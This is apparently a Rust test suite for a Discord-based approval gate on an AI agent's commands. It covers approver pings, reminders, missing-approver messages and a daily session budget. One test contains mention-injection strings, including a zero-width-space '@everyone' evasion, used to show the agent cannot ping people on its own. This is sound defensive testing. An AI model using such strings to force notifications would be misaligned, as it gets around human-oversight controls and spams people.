fn pinging(remind: Option<Duration>) -> Access {
    Access {
        users: vec![APPROVER],
        roles: vec![ON_CALL],
        ping: Ping {
            users: vec![APPROVER],
            roles: vec![ON_CALL],
        },
        remind,
    }
}

#[tokio::test]
async fn approvers_are_pinged_once_per_request_message_never_by_the_agent_or_an_edit() {
    let h = Harness::start(pinging(None)).await;
    // The agent tries to ping on its own, every way it can.
    let (_, n) = h
        .ask("echo @everyone @here <@999> <@&888> <@!999> @\u{200b}everyone")
        .await;
    let msg = h.message_of(n).await;
    let pings = h.fake.pings();
    assert_eq!(pings.len(), 1, "{pings:?}");
    assert_eq!(pings[0].message_id, msg.id);
    assert_eq!(
        (
            pings[0].users.clone(),
            pings[0].roles.clone(),
            pings[0].everyone
        ),
        (vec![APPROVER], vec![ON_CALL], false)
    );
    // The pinged user joined the thread, so later messages reach them too.
    assert_eq!(h.fake.thread_members(), vec![(h.thread, APPROVER)]);
    // Deciding edits the message: nobody is pinged again.
    let (_, token) = h.click(n, "Deny", &admin()).await;
    h.fake.wait_followup(&token, WAIT).await;
    assert!(h.final_state(n).await.contains("Denied"));
    assert_eq!(
        h.fake.pings().len(),
        1,
        "an edit pinged: {:?}",
        h.fake.pings()
    );
}

#[tokio::test]
async fn a_reminder_pings_again_while_a_request_waits_and_never_after_it_is_settled() {
    let h = Harness::start(pinging(Some(Duration::from_millis(700)))).await;
    let (_, waiting) = h.ask("make deploy").await;
    let (_, decided) = h.ask("make test").await;
    let decided_msg = h.message_of(decided).await;
    let (_, token) = h.click(decided, "Approve", &admin()).await;
    h.fake.wait_followup(&token, WAIT).await;
    // Two request messages, then one reminder for the one still waiting.
    let reminder = h.fake.wait_message(h.thread, "Still waiting", WAIT).await;
    let content = reminder.payload["content"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(content.contains(&format!("#{waiting}")), "{content}");
    assert!(!content.contains(&format!("#{decided} ")), "{content}");
    assert_ne!(
        reminder.payload["message_reference"]["message_id"],
        json!(decided_msg.id.to_string())
    );
    let pings = h.fake.pings();
    assert_eq!(pings.len(), 3, "{pings:?}");
    assert_eq!(pings[2].message_id, reminder.id);
    assert_eq!(pings[2].users, vec![APPROVER]);
    // No second reminder for the same request.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(h.fake.pings().len(), 3, "{:?}", h.fake.pings());
}

#[tokio::test]
async fn without_anyone_to_ping_nobody_is_and_the_run_start_message_says_so() {
    let h = Harness::start(Access::default()).await;
    let start = h.fake.messages_in(CHANNEL);
    assert!(
        start[0]
            .payload
            .to_string()
            .contains("No one will be notified; set --mention"),
        "{}",
        start[0].payload
    );
    let (_, n) = h.ask("echo <@4242> @everyone").await;
    h.message_of(n).await;
    assert!(h.fake.pings().is_empty(), "{:?}", h.fake.pings());
    assert!(h.fake.thread_members().is_empty());
}

// ---------------------------------------------------------------------------
// Many runs, one bot: the daily budget of session starts.

mod budget {
    use crate::support::fake_discord::FakeDiscord;
    use crate::support::fake_opencode::FakeOpenCode;
    use crate::support::gatekeep::Gatekeep;

    use super::{CHANNEL, TOKEN};

    async fn run_with_budget(left: u64) -> (i32, String, FakeDiscord, FakeOpenCode) {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        discord.set_session_starts_left(left);
        let channel = CHANNEL.to_string();
        let base = discord.base();
        let args = [
            "--dir",
            oc.workspace().to_str().expect("utf-8"),
            "--channel",
            channel.as_str(),
            "--discord-api-url",
            base.as_str(),
        ];
        let mut gk = Gatekeep::detached(
            &args,
            oc.program(),
            &["run", "go"],
            &[("DISCORD_TOKEN", TOKEN)],
        );
        if left > 50 {
            let root = oc.wait_for_prompt().await.session_id;
            oc.finish_session(&root);
        }
        let code = gk.exit_code().await;
        (code, gk.screen(), discord, oc)
    }

    #[tokio::test]
    async fn with_the_session_budget_at_the_reserve_no_identify_is_spent_and_nothing_runs() {
        let (code, screen, discord, oc) = run_with_budget(10).await;
        assert_eq!(code, 3, "{screen}");
        assert!(
            screen.contains("only 10 of the bot's 1000 daily session starts"),
            "{screen}"
        );
        assert_eq!(discord.identifies(), 0, "a session start was spent");
        assert!(oc.prompts().is_empty(), "the agent was prompted");
    }

    #[tokio::test]
    async fn with_900_left_the_same_run_works() {
        let (code, screen, discord, _oc) = run_with_budget(900).await;
        assert_eq!(code, 0, "{screen}");
        assert_eq!(discord.identifies(), 1);
    }
}
